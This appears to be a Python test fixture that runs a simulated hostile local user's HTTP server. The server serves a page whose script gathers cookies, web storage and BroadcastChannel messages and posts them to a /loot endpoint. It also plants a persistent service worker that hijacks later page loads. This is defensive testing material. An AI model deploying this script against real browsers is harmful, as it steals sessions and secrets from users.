"""Another user of this machine who listens at a port, notes all that browsers send there, and serves a page that asks
them for more."""

from __future__ import annotations

import re
from collections.abc import Iterator
from contextlib import contextmanager
from threading import Thread

from tests.conftest import DEADLINE_S
from tests.other_users import as_other_user

# Answers everything as if all were well; its page sends home whatever a script of this origin can get hold of.
_PROGRAM = """
PAGE = b'''<!doctype html><title>trap</title><script>
  const found = { url: location.href, cookie: document.cookie, tab: {...sessionStorage}, kept: {...localStorage} };
  found.told = [];
  for (const name of ["duckrow.session", "duckrow"]) {
    const others = new BroadcastChannel(name);
    others.onmessage = ({ data }) => found.told.push(data);
    others.postMessage("ask");
  }
  navigator.serviceWorker?.register("/worker.js", { scope: "/" });
  setTimeout(() => fetch("/loot", { method: "POST", body: JSON.stringify(found) }), 500);
</script>'''

# Stays in the browser when the attacker has gone, and answers for this origin in place of whoever comes next.
WORKER = b'''
  self.addEventListener("install", () => self.skipWaiting());
  self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
  self.addEventListener("fetch", (event) => {
    const trap = () => new Response("<title>trap</title>", { headers: { "Content-Type": "text/html" } });
    if (event.request.mode === "navigate")
      event.respondWith(fetch(event.request).then((got) => got.headers.has("X-Trap") ? got : trap(), trap));
  });
'''

class Trap(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        length = int(self.headers.get("Content-Length", 0))
        got = [self.command, self.path, self.headers.items(), self.rfile.read(length).decode()]
        sys.stdout.write(json.dumps(got) + "\\n"); sys.stdout.flush()
        is_page = "text/html" in self.headers.get("Accept", "")
        self.send_response(200)
        is_worker = self.path == "/worker.js"
        kind = "text/html" if is_page else "text/javascript" if is_worker else "application/json"
        self.send_header("Content-Type", kind)
        self.send_header("X-Trap", "1")
        self.end_headers()
        self.wfile.write(PAGE if is_page else WORKER if is_worker else b"{}")
    do_POST = do_GET
    def log_message(self, *words):
        pass

server = http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Trap)
sys.stdout.write("ready\\n" + str(server.server_port) + "\\n"); sys.stdout.flush()
server.serve_forever()
"""


class Loot(list[str]):
    """A line for each request, with all that it brought."""

    port = 0

    @property
    def pages(self) -> int:
        """How often a page of the attacker has sent what it found."""
        return sum('"/loot"' in line for line in self)

    @property
    def words(self) -> set[str]:
        """All that could be a secret."""
        return set(re.findall(r"[\w.~+/=-]{16,}", " ".join(self)))


@contextmanager
def attacker(port: int) -> Iterator[Loot]:
    loot = Loot()
    with as_other_user(_PROGRAM, str(port)) as process:
        assert process.stdout is not None
        loot.port = int(process.stdout.readline())
        reader = Thread(target=loot.extend, args=(process.stdout,), daemon=True)
        reader.start()
        try:
            yield loot
        finally:
            process.kill()
            reader.join(DEADLINE_S)
